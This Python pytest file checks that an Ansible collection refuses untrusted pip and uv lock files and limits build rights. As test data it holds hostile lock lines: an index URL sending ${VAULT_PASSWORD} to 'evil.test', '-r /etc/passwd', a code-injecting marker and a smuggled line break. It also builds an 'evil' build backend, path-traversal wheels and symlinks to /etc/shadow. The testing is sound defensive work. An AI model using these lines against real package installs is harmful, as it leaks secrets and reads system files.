"""A lock is untrusted: which lines it can hold, and which rights pip and uv have."""

from __future__ import annotations

import base64
import fcntl
import hashlib
import http.server
import importlib.util
import os
import re
import shutil
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from ansible.parsing.dataloader import DataLoader

from ansible_collections.wsgi.sites.plugins.module_utils.packages import build_account, lockfile
from ansible_collections.wsgi.sites.plugins.module_utils.releases import bytecode, uv, venv
from ansible_collections.wsgi.sites.plugins.module_utils.releases.errors import BuildError
from ansible_collections.wsgi.sites.plugins.module_utils.system import trees
from ansible_collections.wsgi.sites.plugins.plugin_utils.config.checks.source import check_folder
from ansible_collections.wsgi.sites.plugins.plugin_utils.config.checks.whole import CheckedConfig
from ansible_collections.wsgi.sites.plugins.plugin_utils.releases import inputs
from ansible_collections.wsgi.sites.plugins.plugin_utils.sources import InputError, wheels

CANARY = "canary-5ecret"
HASH = f"--hash=sha256:{'0' * 64}"
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")

HOSTILE = {
    "an sdist": "--find-links https://evil.test/ --no-binary :all:",
    "an sdist, said shorter": "--find-links=https://evil.test/ --no-binary=:all:",
    "sdists": "--no-binary :all:",
    "an editable folder": f"-e . {HASH}",
    "another file": "-r /etc/passwd",
    "constraints": "-c other.txt",
    "an option that pip completes": "--index-u https://evil.test/",
    "a folder of links": "--find-links /etc",
    "a file for an index": "--index-url file:///etc",
    "a value and a half": "--index-url https://evil.test/ -r x",
    "settings of a build": f"shop==1 {HASH} --config-settings=x=y",
    "options of a build": f"shop==1 --global-option=x {HASH}",
    "a variable": "--extra-index-url http://evil.test/${VAULT_PASSWORD}",
    "a variable in a continued line": "--extra-index-url \\\n  http://evil.test/${VAULT_PASSWORD}",
    "a variable in a package's URL": f"shop @ https://evil.test/${{X}}/shop-1-py3-none-any.whl {HASH}",
    "a weak hash": "shop==1 --hash=md5:00",
    "no hash": "shop==1",
    "a hash in a comment": f"shop==1 # {HASH}",
    "any version": f"shop>=1 {HASH}",
    "a family of versions": f"shop==1.* {HASH}",
    "a path": f"./shop-1-py3-none-any.whl {HASH}",
    "a file": f"shop @ file:///shop-1-py3-none-any.whl {HASH}",
    "a repository": f"shop @ git+https://evil.test/shop {HASH}",
    "an sdist by URL": f"shop @ https://evil.test/shop-1.tar.gz {HASH}",
    "a marker that is none": f"shop==1 ; __import__('os') {HASH}",
    "a backslash within": f"shop==1 \\ {HASH} x",
    "a line end that only Python knows": f"--index-url https://evil.test/\x85--no-binary :all:\nshop==1 {HASH}",
}


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_a_forbidden_line_gets_the_same_refusal_in_preflight_build_and_on_hosts(tmp_path: Path, line: str) -> None:
    text = f"# made by uv\nidna==3.20 {HASH}\n{line}\n"
    with pytest.raises(lockfile.LockError, match="line 3 ") as error:
        lockfile.parse(text)
    assert "evil.test" not in str(error.value), "no error quotes a file that may have been replaced"
    (tmp_path / "requirements.txt").write_text(text, encoding="utf-8")
    answers = everywhere(tmp_path, "requirements.txt")
    assert re.match(r"requirements.txt, line 3 (.|\n)* -o requirements.txt", answers.pop()), (
        "the same message everywhere"
    )
    assert not answers


def everywhere(source: Path, requirements: str) -> set[str]:
    """The refusals of preflight, the controller's build and a host for one lock."""
    site = {"source": {"path": str(source)}, "requirements": requirements}
    page = CheckedConfig({"sites": {}}, DataLoader(), {}, {})
    check_folder(page, "shop", site, source)
    with pytest.raises(InputError) as packed:
        inputs.load_lock(source, requirements)
    with pytest.raises(BuildError) as built:
        venv.lock_of(uv.Toolbox(), source, requirements, source)
    answers = {f"requirements: {error.partition(': ')[2]}" for error in page.errors}
    return {words.removeprefix("requirements: ") for words in (*answers, str(packed.value), str(built.value))}


def test_a_lock_includes_other_locks_of_its_source(tmp_path: Path) -> None:
    (tmp_path / "locks").mkdir()
    (tmp_path / "requirements.txt").write_text(f"-r locks/web.txt\nidna==3.20 {HASH}\n", encoding="utf-8")
    (tmp_path / "locks/web.txt").write_text(f"--requirement=../base.txt\n-r web.txt\nflask==3 {HASH}\n", "utf-8")
    (tmp_path / "base.txt").write_text(f"-i https://x.test/simple\nclick==8 {HASH}\n", encoding="utf-8")
    packed = inputs.load_lock(tmp_path, "requirements.txt")
    built = venv.lock_of(uv.Toolbox(), tmp_path, "requirements.txt", tmp_path)
    assert packed.lock == built and list(packed.files) == ["requirements.txt", "locks/web.txt", "base.txt"]
    assert built.names == {"click", "flask", "idna"} and built.index_url == "https://x.test/simple"
    assert "-r" not in built.text()
    page = CheckedConfig({"sites": {}}, DataLoader(), {}, {})
    check_folder(page, "shop", {"requirements": "requirements.txt"}, tmp_path)
    assert not page.errors


@pytest.mark.parametrize(("line", "words"), [
    ("-r base.txt", "includes another file: base.txt is not in the source"),
    ("-r ../base.txt", "includes a file that is not in the source"),
    ("-r /etc/passwd", "includes a file that is not in the source"),
    ("-r https://x.test/base.txt", "includes a file that is not in the source"),
    ("-r link.txt", "includes another file: link.txt is a link that leads out of the source"),
    ("-c base.txt", r"has constraints \(-c\), and a lock pins every version itself; remove the line"),
    ("-r loose.txt", r"^loose.txt, line 2 has no hash for flask==3; lock with hashes. (.|\n)* -o loose.txt"),
])  # fmt: skip
def test_an_include_that_is_no_lock_of_the_source_is_refused_alike_everywhere(
    tmp_path: Path, line: str, words: str
) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (tmp_path / "base.txt").write_text(f"idna==3.20 {HASH}\n", encoding="utf-8")
    (source / "link.txt").symlink_to("../base.txt")
    (source / "loose.txt").write_text("\nflask==3\n", encoding="utf-8")
    (source / "requirements.txt").write_text(f"{line}\nidna==3.20 {HASH}\n", encoding="utf-8")
    (answer,) = everywhere(source, "requirements.txt")
    assert re.search(words, answer), answer


def test_a_lock_includes_a_bounded_number_of_files(tmp_path: Path) -> None:
    for number in range(50):
        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\nidna==3.20 {HASH}\n", encoding="utf-8")
    with pytest.raises(lockfile.LockError, match="includes more than 20 files; lock into one file"):
        lockfile.load(tmp_path, "0.txt")


def test_pip_and_uv_read_a_lock_that_is_written_from_checked_values() -> None:
    text = (
        "-i 'https://me:p@pypi.test/simple'\n--only-binary=:all:\n--require-hashes\n"
        "Flask_X [b,A] == 3 ; python_version<'3.8' --hash sha256:AA \\\r\n    --hash=sha512:bb  # via x\n"
        "z @ https://x.test/z-1-py3-none-any.whl#sha256=cc\n"
    )
    lock = lockfile.parse(text)
    assert lock.text() == (
        "--index-url https://me:p@pypi.test/simple\n"
        "flask-x[a,b]==3 ; python_version < '3.8' --hash=sha256:aa --hash=sha512:bb\n"
        "z @ https://x.test/z-1-py3-none-any.whl --hash=sha256:cc\n"
    )
    assert lockfile.parse(lock.text()) == lock
    assert lock.index_options("https://x:$%7Bq@mine.test/${A} b") == [
        "--index-url https://x:$%7Bq@mine.test/$%7BA%7D%20b"
    ]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_lock_in_an_encoding_of_windows_is_read(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "requirements.txt").write_bytes(f"idna==3.20 {HASH}\r\n".encode(encoding))
    assert inputs.load_lock(tmp_path, "requirements.txt").names == {"idna"}
    assert venv.lock_of(uv.Toolbox(), tmp_path, "requirements.txt", tmp_path).names == {"idna"}


PROJECT = """[project]
name = "shop"
version = "1"
requires-python = ">=3.11"
dependencies = ["idna"]
[build-system]
requires = ["evil"]
build-backend = "evil"
backend-path = ["."]
[tool.uv]
cache-dir = "pwned-cache"
"""
UV_LOCK = f"""version = 1
revision = 3
requires-python = ">=3.11"
[[package]]
name = "idna"
version = "3.20"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [{{ url = "https://x.test/idna-3.20-py3-none-any.whl", hash = "sha256:{"0" * 64}" }}]
[[package]]
name = "shop"
version = "1"
source = {{ editable = "." }}
dependencies = [{{ name = "idna" }}]
"""
LEAVING = {
    "a workspace": ("", '[tool.uv.workspace]\nmembers = ["../*"]\n', "leads out of the source"),
    "a source": ("", '[tool.uv.sources]\nidna = { path = "../../x" }\n', "leads out of the source"),
    "an index": ("", '[[tool.uv.index]]\nurl = "/etc"\n', "leads out of the source"),
    "a variable": ("", '[[tool.uv.index]]\nurl = "http://x/${A}"\n', "pyproject.toml, line 13 names a variable"),
    "a locked folder": ("", '[[package]]\nname = "x"\nsource = { directory = "../x" }\n', "leads out of the source"),
    "a locked variable": ("", '[[package]]\nname = "x"\nsource = { url = "http://${A}" }\n', "uv.lock, line 16 names"),
}


@pytest.mark.parametrize("case", LEAVING.values(), ids=LEAVING)
def test_a_project_that_points_uv_outside_its_source_is_refused(tmp_path: Path, case: tuple[str, str, str]) -> None:
    _, more, words = case
    locked = "[[package]]" in more
    (tmp_path / "pyproject.toml").write_text(PROJECT + ("" if locked else more), encoding="utf-8")
    (tmp_path / "uv.lock").write_text(UV_LOCK + (more if locked else ""), encoding="utf-8")
    with pytest.raises(InputError, match=words):
        inputs.load_lock(tmp_path, "uv.lock")
    with pytest.raises(InputError, match=words):
        wheels.export(tmp_path, "uv.lock", tmp_path / "place")
    with pytest.raises(BuildError, match=words):
        venv.lock_of(uv.Toolbox(), tmp_path, "uv.lock", tmp_path)


def test_the_export_of_a_hostile_project_runs_nothing_and_writes_nowhere(tmp_path: Path) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (source / "pyproject.toml").write_text(PROJECT, encoding="utf-8")
    (source / "uv.lock").write_text(UV_LOCK, encoding="utf-8")
    (source / "evil.py").write_text(f"open({str(tmp_path / 'pwned')!r}, 'w')\n", encoding="utf-8")
    before = sorted(source.rglob("*"))
    assert wheels.export(source, "uv.lock", tmp_path / "place").text() == f"idna==3.20 {HASH}\n"
    assert sorted(source.rglob("*")) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["place", "source"]


def test_pip_on_the_controller_uses_no_setting_of_the_operator(tmp_path: Path, monkeypatch) -> None:
    script = tmp_path / "pip.py"
    script.write_text(
        "import os, sys\nif 'config' in sys.argv:\n    print(\"global.index-url='https://me:"
        + CANARY
        + f"@mine.test/simple'\")\nelse:\n    words = [str(dict(os.environ)), str(sys.argv)]\n"
        f"    open({str(tmp_path / 'seen')!r}, 'w').write(' '.join(words))\n"
        f"    lock = sys.argv[sys.argv.index('--requirement') + 1]\n"
        f"    open({str(tmp_path / 'lock')!r}, 'w').write(oct(os.stat(lock).st_mode) + open(lock).read())\n"
    )
    monkeypatch.setattr(wheels, "_pip", lambda: [sys.executable, str(script)])
    monkeypatch.setenv("VAULT_PASSWORD", CANARY)
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.test:3128")
    target = {"markers": {"python_version": "3.13"}, "platform": "linux-x86_64", "libc": ["glibc", "2.41"]}
    with pytest.raises(InputError, match="pip brought other files"):
        wheels.collect([lockfile.parse(f"idna==3.20 {HASH}\n")], target, "", tmp_path / "cache")
    seen, lock = (tmp_path / "seen").read_text(), (tmp_path / "lock").read_text()
    assert CANARY not in seen and str(Path.home()) not in seen.split("argv")[0].replace(str(tmp_path), "")
    assert "http://proxy.test:3128" in seen
    assert lock.startswith("0o100600") and f"--index-url https://me:{CANARY}@mine.test/simple\n" in lock


# On a host


def wheel(folder: Path, name: str, files: dict[str, tuple[int, str]]) -> str:
    """A wheel of these files; its line in a lock."""
    path = folder / f"{name}-1-py3-none-any.whl"
    info = f"{name}-1.dist-info"
    whole = {
        f"{info}/METADATA": (0o100644, f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n"),
        f"{info}/WHEEL": (0o100644, "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        f"{info}/entry_points.txt": (0o100644, f"[console_scripts]\n{name} = {name}:main\n"),
        **files,
    }
    digests = {
        key: base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()) for key, (_, text) in whole.items()
    }
    record = "".join(f"{key},sha256={value.rstrip(b'=').decode()},\n" for key, value in digests.items())
    with zipfile.ZipFile(path, "w") as archive:
        for key, (mode, text) in {**whole, f"{info}/RECORD": (0o100644, record)}.items():
            entry = zipfile.ZipInfo(key)
            entry.external_attr = mode << 16
            archive.writestr(entry, text)
    return f"{name}==1 --hash=sha256:{hashlib.sha256(path.read_bytes()).hexdigest()}\n"


@pytest.fixture
def tools(tmp_path: Path) -> uv.Toolbox:
    """uv in a place where another account can run it."""
    found = shutil.which("uv", path=f"{Path(sys.executable).parent}:{os.environ.get('PATH', '')}")
    if found is None or not Path("/usr/bin/python3").exists():
        pytest.skip("needs uv and the system's Python")
    for folder in (tmp_path, *tmp_path.parents):
        if folder.stat().st_uid == os.geteuid() and folder != Path("/"):
            folder.chmod(folder.stat().st_mode | 0o011)
    shutil.copy(found, tmp_path / "uv")
    return uv.Toolbox(uv=tmp_path / "uv", cache=tmp_path / "cache", account="nobody")


def built(tools: uv.Toolbox, release: Path, text: str, house: Path | None = None) -> Path:
    """A venv from a lock, and from a wheelhouse if there is one."""
    release.mkdir(mode=0o750)
    with uv.workplace(tools, release) as work:
        folder = shutil.copytree(house, work / "wheels") if house else None
        venv.build(tools, release / "venv", [lockfile.parse(text)], work, complete=True, wheels=folder)
    assert [path.name for path in release.iterdir()] == ["venv"]
    return next((release / "venv/lib").glob("python3*/site-packages"))


@as_root
def test_uv_runs_as_its_own_account_and_the_result_belongs_to_root(tools: uv.Toolbox, tmp_path: Path) -> None:
    house = tmp_path / "house"
    house.mkdir()
    text = wheel(house, "good", {
        "good.py": (0o104755, "main = print\n"), "link": (0o120777, "/etc/shadow"), "open.py": (0o100666, "x = 1\n"),
    })  # fmt: skip
    packages = built(tools, tmp_path / "A", text, house)
    for path in (tmp_path / "A").rglob("*"):
        status = path.lstat()
        assert (status.st_uid, status.st_gid) == (0, 0), path
        assert stat.S_ISLNK(status.st_mode) or not status.st_mode & 0o6022, path
        assert not stat.S_ISLNK(status.st_mode) or path.parent.name in ("bin", "venv"), path
    assert (tmp_path / "A").stat().st_mode & 0o777 == 0o750
    cache = tmp_path / "cache"
    assert (cache.stat().st_mode & 0o777, cache.stat().st_uid) == (0o700, build_account.account("nobody").uid)
    assert any(packages.joinpath("good.py").samefile(path) for path in cache.glob("archive-v*/*/good.py"))


@as_root
@pytest.mark.parametrize("name", ["../../../evil", "/etc/evil-of-a-wheel"])
def test_a_wheel_writes_no_file_outside_its_folder(tools: uv.Toolbox, tmp_path: Path, name: str) -> None:
    house = tmp_path / "house"
    house.mkdir()
    text = wheel(house, "bad", {name: (0o100644, "x")})
    with suppress(BuildError):
        built(tools, tmp_path / "A", text, house)
    assert not Path("/etc/evil-of-a-wheel").exists()
    found = [path for path in tmp_path.rglob("evil") if tmp_path / "A/venv" not in path.parents]
    assert not [path for path in found if tmp_path / "cache" not in path.parents]


@as_root
def test_a_link_made_by_the_account_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "venv").mkdir()
    (tmp_path / "venv/x.py").symlink_to("/etc/shadow")
    who = build_account.account("nobody")
    with pytest.raises(build_account.BuilderError, match="leads out of the venv"):
        build_account.take_over(tmp_path / "venv", who, tmp_path / "cache", Path("/usr/bin/python3"))
    (tmp_path / "cache/archive-v0").mkdir(parents=True)
    (tmp_path / "cache/archive-v0/x").symlink_to("/etc/shadow")
    (tmp_path / "venv/x.py").unlink()
    (tmp_path / "venv/x.py").symlink_to(tmp_path / "cache/archive-v0/x")
    with pytest.raises((build_account.BuilderError, OSError)):
        build_account.take_over(tmp_path / "venv", who, tmp_path / "cache", Path("/usr/bin/python3"))
    assert Path("/etc/shadow").stat().st_uid == 0 and not Path("/etc/shadow").stat().st_mode & 0o4


def test_a_held_lock_is_reported_with_its_holder(tools: uv.Toolbox, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(uv, "LOCK_PATIENCE", 1)
    (tmp_path / "cache").mkdir(mode=0o700)
    if os.geteuid() == 0:
        os.chown(tmp_path / "cache", build_account.account("nobody").uid, -1)
    house = tmp_path / "house"
    house.mkdir()
    text = wheel(house, "good", {})
    with (tmp_path / "cache/.lock").open("w") as held:
        held.flush()
        os.chmod(held.name, 0o666)  # noqa: S103 - as uv makes it
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(BuildError, match=rf"waited 1 s for the lock .*/\.lock, which PID {os.getpid()} \(") as told:
            built(tools, tmp_path / "A", text, house)
    assert "package index" not in str(told.value)


@as_root
def test_an_old_shared_cache_becomes_private_to_the_account(tmp_path: Path) -> None:
    cache, who = tmp_path / "cache", build_account.account("nobody")
    (cache / "archive-v0/x").mkdir(parents=True)
    (cache / "archive-v0/x/code.py").touch()
    (cache / "simple-v0").mkdir()
    (cache / "simple-v0/x.rkyv").touch()
    cache.chmod(0o755)
    (cache / ".lock").touch()
    (cache / ".lock").chmod(0o666)
    with (cache / ".lock").open() as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        build_account.private_cache(cache, who)
        assert not (cache / ".lock").exists(), "the next one is another file"
    assert (cache.stat().st_mode & 0o777, cache.stat().st_uid) == (0o700, who.uid)
    owners = {path.name: path.stat().st_uid for path in cache.rglob("*")}
    assert owners == {"archive-v0": who.uid, "x": who.uid, "code.py": 0, "simple-v0": who.uid, "x.rkyv": who.uid}


def nested(top: Path, depth: int) -> Path:
    """Nested folders, deeper than PATH_MAX, with a file in the last one."""
    top.mkdir(exist_ok=True)
    handle = os.open(top, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("deep", dir_fd=handle)
        deeper = os.open("deep", os.O_RDONLY, dir_fd=handle)
        os.close(handle)
        handle = deeper
    os.close(os.open("file", os.O_CREAT | os.O_WRONLY, dir_fd=handle))
    os.close(handle)
    return top


def owned(top: Path, user: str, kind: str) -> int:
    """The number of files and folders of the user below."""
    words = ["find", str(top), "-type", kind, "-user", user, "-printf", "x"]
    return len(subprocess.run(words, capture_output=True, check=True).stdout)


@as_root
def test_thousands_of_nested_folders_are_handed_over(tmp_path: Path) -> None:
    cache, who = tmp_path / "cache", build_account.account("nobody")
    (cache / "archive-v0").mkdir(parents=True)
    try:
        package, other = nested(cache / "archive-v0/x", 1100), nested(cache / "sdists-v9", 1100)
        (cache / "archive-v0/link").symlink_to("/etc")
        build_account.private_cache(cache, who)
        assert (cache.stat().st_mode & 0o777, cache.stat().st_uid) == (0o700, who.uid)
        assert (owned(package, "nobody", "d"), owned(package, "nobody", "f")) == (1101, 0)
        assert (owned(other, "nobody", "d"), owned(other, "nobody", "f")) == (1101, 1)
        given = nested(tmp_path / "given", 1100)
        build_account.give(given, who)
        assert (owned(given, "nobody", "d"), owned(given, "nobody", "f")) == (1101, 1)
        assert Path("/etc").stat().st_uid == 0
    finally:
        trees.remove(cache)
        trees.remove(tmp_path / "given")


def test_the_work_folder_of_uv_is_removed_at_any_depth(tmp_path: Path) -> None:
    try:
        with uv.workplace(uv.Toolbox(), tmp_path) as work:
            nested(work, 1100)
        assert list(tmp_path.iterdir()) == []
    finally:
        trees.remove(tmp_path / ".build")


def test_bytecode_of_an_old_venv_is_found_at_any_depth(tmp_path: Path) -> None:
    for name in ("old", "new"):
        (tmp_path / name / "lib/x").mkdir(parents=True)
    code = tmp_path / "old/lib/x/code.py"
    code.touch()
    (tmp_path / "new/lib/x/code.py").hardlink_to(code)
    compiled = Path(importlib.util.cache_from_source(str(code)))
    compiled.parent.mkdir()
    compiled.touch()
    try:
        nested(tmp_path / "old/lib/package", 1100)
        assert bytecode.take_over_bytecode(tmp_path / "old", tmp_path / "new") == 1
    finally:
        trees.remove(tmp_path / "old")


class Guarded(http.server.BaseHTTPRequestHandler):
    """A package index that requires a login."""

    house: Path
    seen: list[tuple[str, str | None]]

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers["Authorization"]))
        wanted = "Basic " + base64.b64encode(f"me:{CANARY}@1".encode()).decode()
        if self.headers["Authorization"] != wanted:
            self.send_response(401)
            self.send_header("WWW-Authenticate", "Basic realm=x")
            self.end_headers()
            return
        page = not self.path.endswith(".whl")
        names = [path.name for path in self.house.iterdir()]
        content = "".join(f'<a href="/{name}">{name}</a>' for name in names).encode()
        content = content if page else (self.house / self.path.rpartition("/")[2]).read_bytes()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.send_header("Content-Type", "text/html" if page else "application/octet-stream")
        self.end_headers()
        self.wfile.write(content)

    def do_HEAD(self) -> None:
        self.send_error(405)

    def log_message(self, *_: object) -> None: ...


@contextmanager
def guarded(house: Path) -> Iterator[tuple[str, list]]:
    """The running index: its URL and its requests."""
    handler = type("TheIndex", (Guarded,), {"house": house, "seen": []})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield f"127.0.0.1:{server.server_port}", handler.seen
        finally:
            server.shutdown()
            thread.join()


def test_the_login_of_an_index_is_in_no_environment_and_is_not_kept(tools: uv.Toolbox, tmp_path: Path) -> None:
    house = tmp_path / "house"
    house.mkdir()
    text = wheel(house, "good", {})
    with guarded(house) as (address, seen):
        login = f"me:{CANARY}%401@"
        tools = uv.Toolbox(tools.uv, tools.cache, package_index=f"http://{login}{address}/simple", account="nobody")
        assert CANARY not in str(tools.environment(tmp_path))
        first = built(tools, tmp_path / "A", text)
        assert seen[-1][1]
        second = built(tools, tmp_path / "B", text)
        assert (first / "good-1.dist-info/METADATA").samefile(second / "good-1.dist-info/METADATA"), (
            "linked, not copied"
        )
        by_url = text.replace("==1", f" @ http://{login}{address}/good-1-py3-none-any.whl")
        third = built(tools, tmp_path / "C", by_url)
        assert (third / "good-1.dist-info/direct_url.json").is_file()
    for path in (path for top in "ABC" for path in (tmp_path / top).rglob("*")):
        assert not path.is_file() or CANARY.encode() not in path.read_bytes(), path
    for path in (tmp_path / "cache").rglob("*"):
        assert CANARY not in path.name and (not path.is_file() or CANARY.encode() not in path.read_bytes()), path
